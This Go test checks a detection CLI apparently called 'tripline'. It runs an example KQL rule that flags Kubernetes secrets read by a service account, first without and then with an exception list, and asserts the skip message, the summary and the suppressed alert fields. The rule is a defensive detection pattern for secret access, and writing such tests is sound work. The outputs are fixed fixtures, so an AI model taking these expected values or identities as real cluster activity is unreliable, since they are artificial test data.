// CD's lists are filtered out, and checkout's two reads (a03, a04) make one alert.
func TestExampleKQLRule(t *testing.T) {
	rule := example(t, "kql", "secrets_read_by_service_account.toml")
	lists := example(t, "kql", "storefront-exceptions.ndjson")
	r := runCLI(t, "", "detect", "--rules", rule, "--now", fixedNow, example(t, "events"))
	r.check(t, exitUsage, "", "tripline: rules skipped:\n"+
		"      1 exception list \"storefront-exceptions\" (namespace_type single, type detection) is not loaded (load it with --exceptions), in "+rule+"\n"+
		"tripline: none of the rules can run (1 skipped: see 'tripline rules list')\n")
	r = runCLI(t, "", "detect", "--rules", rule, "--exceptions", lists, "--now", fixedNow, example(t, "events"))
	if r.code != exitOK {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	wantSummary := "rules:  1 loaded, 0 skipped\n" +
		"events: 25 read, 0 malformed (skipped), 0 unused (no timestamp or too late), 0 without index\n" +
		"alerts: 1\n" +
		"   ALERTS MATCHES  CAPPED  RULE\n" +
		"        1       2       0  Kubernetes Secrets Read by a Service Account\n"
	if r.stderr != wantSummary {
		t.Errorf("summary:\n%s\nwant:\n%s", r.stderr, wantSummary)
	}
	var a struct {
		Terms []struct {
			Field string   `json:"field"`
			Value []string `json:"value"`
		} `json:"kibana.alert.suppression.terms"`
		DocsCount int    `json:"kibana.alert.suppression.docs_count"`
		Type      string `json:"kibana.alert.rule.type"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &a); err != nil {
		t.Fatal(err)
	}
	if got := describeMatches(t, parseAlerts(t, r.stdout)); !slices.Equal(got, []string{"6d0f6a1e-3c2b-4f5e-9a8d-7b1c0e2f4a35 event a03"}) ||
		len(a.Terms) != 1 || a.Terms[0].Field != "user.name" || !slices.Equal(a.Terms[0].Value, []string{"system:serviceaccount:storefront:checkout"}) ||
		a.DocsCount != 1 || a.Type != "query" {
		t.Errorf("alert: %v %+v", got, a)
	}
}
